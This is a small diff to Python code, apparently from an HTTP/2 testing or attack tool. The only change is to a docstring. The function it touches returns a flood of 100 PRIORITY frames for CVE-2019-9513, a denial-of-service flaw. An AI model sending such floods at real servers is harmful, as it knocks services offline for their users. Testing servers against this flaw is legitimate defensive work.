@@ -84,7 +84,7 @@ def settings(first: int) -> bytes:
 
 
 def priorities(first: int) -> bytes:
-    """PRIORITY frames (CVE-2019-9513)."""
+    """Return a flood of HTTP/2 PRIORITY frames (CVE-2019-9513)."""
     del first
     return frame(PRIORITY, 0, 0x7FFF_FFFF, b"\x00\x00\x00\x00\x01") * 100
 
